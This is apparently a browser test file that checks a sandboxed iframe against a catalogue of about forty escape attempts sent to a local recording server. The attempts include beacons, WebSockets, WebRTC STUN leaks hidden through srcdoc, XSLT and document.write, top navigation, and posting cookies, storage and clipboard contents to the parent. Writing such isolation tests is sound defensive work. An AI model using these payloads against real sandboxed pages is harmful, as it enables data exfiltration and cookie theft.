import { createSocket } from 'node:dgram'
import { expect, test } from 'vitest'
import { openBrowser } from '../support/browser.ts'
import { serveFrame } from '../support/frame.ts'
import { fixture } from '../support/fixture.ts'
import { sample } from '../support/sample.ts'

const browser = fixture(openBrowser)

/** A server outside the sandbox, which records every TCP connection and UDP packet. */
function listenOutside() {
  const reached: string[] = []
  const tcp = Deno.listen({ hostname: '127.0.0.1', port: 0 })
  const { port } = tcp.addr as Deno.NetAddr
  ;(async () => {
    for await (const connection of tcp) {
      reached.push('tcp')
      connection.close()
    }
  })()
  const udp = createSocket('udp4', () => reached.push('udp')).bind(port, '127.0.0.1')
  return { url: `http://127.0.0.1:${port}`, reached, close: () => (tcp.close(), udp.close()) }
}

/** Each attack tries one way out. The outside server and the surrounding page record whether it succeeds. */
const attacks: Record<string, string> = {
  fetch: `fetch(OUT + '/fetch').catch(() => {}); new XMLHttpRequest().open('GET', OUT)`,
  picture: `new Image().src = OUT + '/image'; document.body.style.background = 'url(' + OUT + '/style)'`,
  beacon: `navigator.sendBeacon(OUT + '/beacon', 'x')`,
  'web socket': `new WebSocket(OUT.replace('http', 'ws'))`,
  'event source': `new EventSource(OUT)`,
  'imported style': `add('style').textContent = '@import url(' + OUT + '/css);'`,
  'linked style': `Object.assign(add('link'), { rel: 'stylesheet', href: OUT + '/css' })`,
  prefetch: `Object.assign(add('link'), { rel: 'prefetch', href: OUT + '/prefetch' })`,
  preload: `Object.assign(add('link'), { rel: 'preload', as: 'image', href: OUT + '/preload' })`,
  preconnect: `Object.assign(add('link'), { rel: 'preconnect', href: OUT })`,
  script: `Object.assign(add('script'), { src: OUT + '/script' }); import(OUT + '/module').catch(() => {})`,
  font: `new FontFace('f', 'url(' + OUT + '/font)').load().catch(() => {})`,
  worker: `new Worker(URL.createObjectURL(new Blob(['fetch("' + OUT + '")'])))`,
  'nested frame': `add('iframe').src = OUT + '/frame'`,
  'WebRTC': `call(self)`,
  'WebRTC of a nested document': `add('iframe').srcdoc = nested`,
  'WebRTC of a nested attribute': `add('iframe').setAttribute('srcdoc', nested)`,
  'WebRTC of nested markup':
    `document.body.insertAdjacentHTML('beforeend', '<iframe SRCDOC="' + nested.replaceAll('"', '&quot;') + '"></iframe>')`,
  'WebRTC of a written document':
    `document.write('<iframe srcdoc="' + nested.replaceAll('"', '&quot;') + '"></iframe>')`,
  'WebRTC of a document written in pieces':
    `document.write('<iframe src'); document.write('doc="' + nested.replaceAll('"', '&quot;') + '"></iframe>')`,
  'WebRTC of a document written in lines':
    `document.writeln('<iframe'); document.write('src'); document.write('doc="' + nested.replaceAll('"', '&quot;') + '"></iframe>')`,
  'WebRTC of a transformed document':
    `const sheet = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" ' +
    'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/><xsl:template match="/"><iframe><xsl:attribute name="{concat(\\'src\\', \\'doc\\')}">' +
    nested.replaceAll('&', '&amp;').replaceAll('<', '&lt;') + '</xsl:attribute></iframe></xsl:template></xsl:stylesheet>', 'text/xml')
    const processor = new XSLTProcessor()
    processor.importStylesheet(sheet)
    document.body.append(processor.transformToFragment(sheet, document))`,
  'WebRTC of a shadow':
    `document.body.attachShadow({ mode: 'closed' }).innerHTML = '<iframe srcdoc="' + nested.replaceAll('"', '&quot;') + '"></iframe>'`,
  'WebRTC of an attribute node':
    `const attribute = document.createAttribute('srcdoc'); attribute.value = nested; const frame = document.createElement('iframe'); frame.setAttributeNode(attribute); document.body.append(frame)`,
  'WebRTC of an empty document': `call(add('iframe').contentWindow)`,
  'WebRTC of a script address': `add('iframe').src = 'javascript:(' + call + ')(self, "' + OUT + '")'`,
  'WebRTC of a made address':
    `add('iframe').src = URL.createObjectURL(new Blob([nested], { type: 'text/html' }))`,
  'top navigation': `top.location = OUT + '/top'`,
  'parent navigation': `parent.location.href = OUT + '/parent'`,
  'top navigation by a link': `Object.assign(add('a'), { href: OUT + '/link', target: '_top' }).click()`,
  'own navigation': `location = OUT + '/self'`,
  'own navigation by meta':
    `Object.assign(add('meta'), { httpEquiv: 'refresh', content: '0;url=' + OUT + '/meta' })`,
  'form post':
    `const form = Object.assign(add('form'), { method: 'post', action: OUT + '/form' }); form.submit(); form.requestSubmit()`,
  'pop-up': `open(OUT + '/popup'); Object.assign(add('a'), { href: OUT, target: '_blank' }).click()`,
  download: `Object.assign(add('a'), { href: OUT + '/download', download: 'x' }).click()`,
  'sign-up of the page': `parent.document.forms[0].submit()`,
  cookies: `parent.postMessage({ stolen: document.cookie }, '*')`,
  storage:
    `for (const read of [() => localStorage.a, () => sessionStorage.a, () => indexedDB.open('a')]) try { read(); parent.postMessage({ stolen: 'storage' }, '*') } catch {}`,
  'parent access':
    `for (const read of [() => parent.document.title, () => parent.received, () => frameElement.id, () => top.localStorage]) try { read(); parent.postMessage({ stolen: 'parent' }, '*') } catch {}`,
  clipboard:
    `navigator.clipboard?.readText().then((text) => parent.postMessage({ stolen: 'clipboard' }, '*')).catch(() => {})`,
  dialogs: `alert('x'); confirm('x'); prompt('x')`,
  'endless loop': `for (;;);`,
  'endless markup': `for (;;) add('p')`,
}

const prologue = (out: string) => `
const OUT = '${out}'
const add = (tag) => document.body.appendChild(document.createElement(tag))
function call(scope, out = OUT) {
  const peer = new scope.RTCPeerConnection({ iceServers: [{ urls: 'stun:' + out.slice(7) }] })
  peer.createDataChannel('x')
  peer.createOffer().then((offer) => peer.setLocalDescription(offer))
}
const nested = '<script>(' + call + ')(self, "' + OUT + '")</' + 'script>'
`

test.each(sample(Object.keys(attacks), 5))(
  'an experience is isolated against %s, and the sign-up works',
  async (name) => {
    const out = listenOutside()
    const javascript = `${prologue(out.url)}\n${attacks[name]}`
    const served = serveFrame({ html: '<p>Play</p>', css: '', javascript })
    try {
      await browser.visit(async ({ page }) => {
        let pages = 0
        page.context().on('page', () => pages++)
        page.on('dialog', () => pages++)
        await page.goto(served.url, { waitUntil: 'commit' })
        await page.locator('iframe').waitFor()
        // The absence of requests has no event; with a weaker policy they arrived within this time.
        await page.waitForTimeout(300)
        expect(page.url()).toBe(served.url)
        const stolen = await page.evaluate(`received.filter(({ stolen }) => stolen)`)
        expect(stolen).toEqual([])
        await page.getByRole('button', { name: 'Sign up' }).press('Enter')
        await page.waitForURL('**/signup')
        expect({ reached: out.reached, pages }).toEqual({ reached: [], pages: 0 })
        expect(served.requests).toEqual(['/', '/play', '/signup'])
      })
    } finally {
      out.close()
      await served.close()
    }
  },
)
